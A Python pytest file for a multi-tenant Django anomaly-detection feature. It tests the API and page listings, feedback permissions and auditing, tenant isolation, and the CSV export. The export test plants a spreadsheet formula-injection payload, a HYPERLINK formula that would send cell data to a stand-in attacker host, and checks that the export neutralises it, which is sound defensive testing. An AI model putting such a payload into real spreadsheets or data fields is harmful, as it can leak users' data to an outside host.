"""Anomalies through the API and the pages: lists, one anomaly, feedback, the page's CSV; another tenant's
answers 404."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.test import Client

from budgets.models import Anomaly, Control, ControlKind
from budgets.services.anomalies import anomalies_detect
from tenants.models import AuditEvent, Membership
from tests.budgets.test_anomalies import LAST, NOW, history, put_hours, steady
from tests.factories import MembershipFactory, UserFactory, WorkflowFactory

MARKER_B = "marker-tenant-b"


@pytest.fixture
def spiking(tenant_a, tenant_b, catalog):
    """Tenant A's support bot in a runaway loop (detected by the job); tenant B has an anomaly of its own."""
    wf = WorkflowFactory(slug="support-bot", name="Support bot")
    put_hours(tenant_a, wf, catalog["gpt-4o"], history(), calls=steady)
    put_hours(tenant_a, wf, catalog["gpt-4o"], [LAST], calls=600)
    anomalies_detect(now=NOW)
    anomaly_a = Anomaly.objects.get(tenant=tenant_a, kind=Anomaly.Kind.RUNAWAY_LOOP)
    anomaly_b = Anomaly.objects.create(
        tenant=tenant_b,
        workflow=WorkflowFactory(slug="b-flow", name=f"B flow {MARKER_B}"),
        kind=Anomaly.Kind.SPIKE,
        metric="cost",
        opened_at=LAST,
        last_hour=LAST,
        observed=50.0,
        expected=5.0,
        evidence={"unit": "USD/h", "series": [[LAST.isoformat(), 50.0, 5.0, 1.0, 9.0]]},
        created_at=NOW,
    )
    return anomaly_a, anomaly_b


def _member(tenant, role):
    return MembershipFactory(tenant=tenant, role=role, user=UserFactory(username=f"{role}-{tenant.slug}")).user


def test_the_list_shows_the_callers_tenant_only(api_a, spiking):
    anomaly_a, _ = spiking
    response = api_a.client.get("/api/v1/anomalies")
    assert response.status_code == 200
    body = response.json()["results"]
    assert [a["id"] for a in body] == [anomaly_a.pk]
    row = body[0]
    assert row["kind"] == "runaway_loop" and row["workflow"] == "support-bot" and row["status"] == "open"
    assert row["observed"] == 600 and row["unit"] == "calls/h" and row["band"][1] < 600
    assert row["controls"][0]["kind"] == ControlKind.REQUIRE_APPROVAL and row["controls"][0]["active"] is True
    assert MARKER_B not in response.content.decode()
    assert api_a.client.get("/api/v1/anomalies?status=nonsense").status_code == 400
    assert api_a.client.get("/api/v1/anomalies?status=cleared").json()["results"] == []


def test_platform_callers_see_every_tenant(api_platform, spiking):
    ids = {a["id"] for a in api_platform.client.get("/api/v1/anomalies").json()["results"]}
    assert ids == {spiking[0].pk, spiking[1].pk}


def test_one_anomaly_carries_its_series_and_another_tenants_answers_404(api_a, spiking):
    anomaly_a, anomaly_b = spiking
    response = api_a.client.get(f"/api/v1/anomalies/{anomaly_a.pk}")
    assert response.status_code == 200
    series = response.json()["series"]
    assert series[-1][0].startswith(LAST.isoformat()[:13]) and series[-1][1] == 600
    other = api_a.client.get(f"/api/v1/anomalies/{anomaly_b.pk}")
    assert other.status_code == 404 and MARKER_B not in other.content.decode()


def test_feedback_through_the_api_ends_controls_and_is_audited(tenant_a, api_a, spiking):
    anomaly_a, anomaly_b = spiking
    response = api_a.client.post(
        f"/api/v1/anomalies/{anomaly_a.pk}/feedback", {"feedback": "false_alarm", "note": "batch job"}, format="json"
    )
    assert response.status_code == 200, response.content
    assert response.json()["feedback"] == "false_alarm" and response.json()["controls"][0]["active"] is False
    assert Control.objects.get().ends_at is not None
    assert AuditEvent.objects.filter(action="anomaly.feedback", tenant=tenant_a).count() == 1
    bad = api_a.client.post(f"/api/v1/anomalies/{anomaly_a.pk}/feedback", {"feedback": "meh"}, format="json")
    assert bad.status_code == 400
    other = api_a.client.post(f"/api/v1/anomalies/{anomaly_b.pk}/feedback", {"feedback": "confirmed"}, format="json")
    assert other.status_code == 404
    anomaly_b.refresh_from_db()
    assert anomaly_b.feedback == ""


def test_viewers_read_but_do_not_give_feedback(tenant_a, spiking):
    anomaly_a, _ = spiking
    client = Client()
    client.force_login(_member(tenant_a, Membership.Role.VIEWER))
    assert client.get(f"/api/v1/anomalies/{anomaly_a.pk}?tenant=acme").status_code == 200
    refused = client.post(
        f"/api/v1/anomalies/{anomaly_a.pk}/feedback?tenant=acme",
        {"feedback": "confirmed"},
        content_type="application/json",
    )
    assert refused.status_code == 403


def test_the_page_shows_the_anomaly_its_chart_control_and_links(tenant_a, spiking):
    anomaly_a, anomaly_b = spiking
    client = Client()
    client.force_login(_member(tenant_a, Membership.Role.APPROVER))
    page = client.get("/anomalies/")
    assert page.status_code == 200
    html = page.content.decode()
    assert f'data-anomaly="{anomaly_a.pk}"' in html and f"anomaly-figure-{anomaly_a.pk}" in html
    control = anomaly_a.controls.get()
    assert f'data-control="{control.pk}"' in html and "require approval" in html.lower()
    assert "/workflows/support-bot/" in html and "/tenants/acme/" in html
    assert MARKER_B not in html
    detail = client.get(f"/anomalies/{anomaly_a.pk}/")
    assert detail.status_code == 200 and 'data-plotly-figure="anomaly-figure"' in detail.content.decode()
    assert client.get(f"/anomalies/{anomaly_b.pk}/").status_code == 404
    posted = client.post(f"/anomalies/{anomaly_a.pk}/feedback/", {"feedback": "confirmed", "note": "loop in v2"})
    assert posted.status_code == 302
    anomaly_a.refresh_from_db()
    assert anomaly_a.feedback == "confirmed"
    assert client.post(f"/anomalies/{anomaly_b.pk}/feedback/", {"feedback": "confirmed"}).status_code == 404
    counts = client.get("/anomalies/").content.decode()
    assert 'data-feedback="confirmed">1<' in counts


def test_the_page_has_an_empty_state(tenant_a, catalog):
    client = Client()
    client.force_login(_member(tenant_a, Membership.Role.VIEWER))
    html = client.get("/anomalies/").content.decode()
    assert "No anomalies" in html and 'aria-current="page">Anomalies' in html


def test_job_is_on_the_beat_schedule_within_minutes_of_the_hour():
    from finops.celery import app

    entry = app.conf.beat_schedule["detect-anomalies"]
    assert entry["task"] == "budgets.tasks.detect_anomalies"
    assert min(entry["schedule"].minute) <= 5
    assert datetime(2026, 1, 1, tzinfo=UTC) + timedelta(minutes=3)  # the task itself is tested via the service


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def test_the_page_downloads_as_csv_of_its_rows_neutralised_and_scoped(tenant_a, spiking, operator):
    anomaly_a, anomaly_b = spiking
    cleared = Anomaly.objects.create(
        tenant=tenant_a,
        workflow=WorkflowFactory(slug="hostile-flow", name=HOSTILE_NAME),
        kind=Anomaly.Kind.PROMPT_BLOAT,
        metric="tokens_per_call",
        status=Anomaly.Status.CLEARED,
        opened_at=LAST - timedelta(hours=5),
        last_hour=LAST - timedelta(hours=3),
        cleared_at=LAST - timedelta(hours=2),
        observed=4200.5,
        expected=1500.0,
        low=1000.0,
        high=2000.0,
        score=7.25,
        feedback=Anomaly.Feedback.FALSE_ALARM,
        feedback_note="@SUM(1+1) was a load test",
        evidence={"unit": "tokens/call"},
        created_at=NOW,
    )
    client = Client()
    client.force_login(_member(tenant_a, Membership.Role.VIEWER))
    assert "format=csv" in client.get("/anomalies/").content.decode()
    response = client.get("/anomalies/?format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="anomalies-acme-' in response["Content-Disposition"]
    rows = _csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:6] == ["id", "status", "tenant", "workflow", "workflow_name", "kind"]
    assert [r[0] for r in body] == [str(anomaly_a.pk), str(cleared.pk)]  # open first, then recently cleared
    loop, bloat = (dict(zip(header, r, strict=True)) for r in body)
    assert loop["status"] == "open" and loop["workflow"] == "support-bot" and loop["unit"] == "calls/h"
    assert float(loop["observed"]) == 600 and loop["controls"] == "Require Approval (active)"
    assert float(loop["band_high"]) < 600 and loop["cleared_at"] == ""
    assert bloat["workflow_name"] == f"'{HOSTILE_NAME}" and bloat["feedback_note"] == "'@SUM(1+1) was a load test"
    assert bloat["observed"] == "4200.5" and bloat["expected"] == "1500.0" and bloat["score"] == "7.25"
    assert bloat["feedback"] == "False alarm" and bloat["controls"] == "none"
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not any(MARKER_B in c for c in cells)  # tenant B's anomaly stays out

    everyone = Client()
    everyone.force_login(operator)
    ids = {r[0] for r in _csv_rows(everyone.get("/anomalies/?format=csv"))[1:]}
    assert ids == {str(anomaly_a.pk), str(anomaly_b.pk), str(cleared.pk)}
